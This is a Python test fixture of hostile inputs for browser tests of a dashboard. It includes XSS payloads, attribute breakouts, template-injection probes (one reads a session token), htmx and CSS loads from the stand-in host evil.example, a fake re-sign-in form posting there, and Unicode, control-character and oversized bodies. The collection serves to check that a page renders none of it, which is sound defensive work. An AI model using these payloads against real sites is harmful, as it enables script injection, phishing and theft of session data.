"""Text that wants to be more than text, wherever a page shows it.

What would happen sets ``canary`` on the window, asks ``evil.example`` for something, or opens a
dialog: :mod:`tests.browser.dashboard` sees all three.
"""

EVIL = "https://evil.example"
MARKUP = (
    "<script>window.canary='script'</script>",
    "</pre></textarea></title></script><script>window.canary='out'</script>",
    "<img src=x onerror=\"window.canary='img'\">",
    f"<img src='{EVIL}/img.png'>",
    '<svg onload="window.canary=\'svg\'"><animate onbegin="alert(1)" attributeName=x></svg>',
    "<iframe srcdoc=\"<script>parent.canary='frame'</script>\"></iframe>",
    "<details open ontoggle=\"window.canary='toggle'\">",
    f"<base href='{EVIL}/'><link rel=stylesheet href='{EVIL}/a.css'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<style>@import '{EVIL}/b.css'; body {{ display: none }}</style>",
    f"<form action='{EVIL}/'><button autofocus>Sign in again</button></form>",
    '"><script>window.canary="quote"</script>',
    "' autofocus onfocus='window.canary=1' x='",
    '" autofocus onfocus="window.canary=1" x="',
    "javascript:window.canary='url'",
    "data:text/html,<script>opener.canary='data'</script>",
    "<!-- <script>window.canary='comment'</script>",
    "&lt;script&gt;window.canary='twice'&lt;/script&gt;",
)
TEMPLATES = (
    "{{ 7 * 7 }} {{ view.session.token }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7 * 7} #{7 * 7} <%= 7 * 7 %>",
)
HTMX = (
    f'<div hx-get="{EVIL}/part" hx-trigger="load"></div>',
    '<b hx-on:click="window.canary=1" hx-on::load="window.canary=1" hx-vals="js:{a: alert(1)}">',
    '<p data-live="deliveries" data-refresh="1" hx-get="/dashboard/events" hx-trigger="load"></p>',
)
SIGNS = (
    "\u202egnp.exe\u202c \u2066inside\u2069 \u200eleft\u200f",
    "ze\u200bro\u200c\u200d\ufeffwidth",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "e\u0301" * 50 + "Z\u0335\u0334\u0336\u0337" * 20,
    "\ud83d\udc68\u200d\ud83d\udc69".encode("utf-16", "surrogatepass").decode("utf-16"),
    "a" * 3000,
    "__proto__ constructor toString",
)
TEXTS = (*MARKUP, *TEMPLATES, *HTMX, *SIGNS)
"""What is text everywhere."""
NUL = "a\x00b<script>window.canary='nul'</script>"
LINE = ("<script>window.canary='line'</script>" * 140_000)[:5_000_000]
"""5 MB without an end of a line."""
DEEP = '{"a":[' * 99 + "\"<script>window.canary='deep'</script>\"" + "]}" * 99
"""JSON as deep as the hub takes it."""


def wide(size: int = 5_000_000) -> bytes:
    """JSON of that many bytes, all of it markup."""
    row = '{"<img src=x onerror=canary=1>":"<script>window.canary=2</script>"}'
    return f"[{','.join([row] * (size // (len(row) + 1)))}]".encode()


BODIES: tuple[tuple[str, bytes], ...] = (
    ("text/html", f"<html><body>{MARKUP[0]}".encode()),
    ("image/svg+xml", MARKUP[4].encode()),
    ("text/plain", NUL.encode()),
    ("application/octet-stream", bytes(range(256)) + MARKUP[0].encode()),
    ("text/plain; charset=utf-8", b"caf\xe9 \xff\xfe " + MARKUP[0].encode()),
    ("text/plain; charset=utf-16", MARKUP[0].encode("utf-16")),
    ("application/json", b'{"half": "\\ud800", "nul": "a\\u0000<script>canary=1</script>"}'),
    ("application/json", b"{ this is no json <script>window.canary=1</script>"),
    ("application/json", DEEP.encode()),
    ("application/x-www-form-urlencoded", b"a=<script>canary=1</script>&%00=%ff&<b>=1"),
    ("application/xml", b"<a><![CDATA[<script>window.canary=1</script>]]></a>"),
    ("<script>canary=1</script>", b"x"),
)
"""Bodies of requests, with what they say they are."""
LARGE: tuple[tuple[str, bytes], ...] = (
    ("text/plain", LINE.encode()),
    ("application/json", wide()),
)
"""The same of 5 MB."""
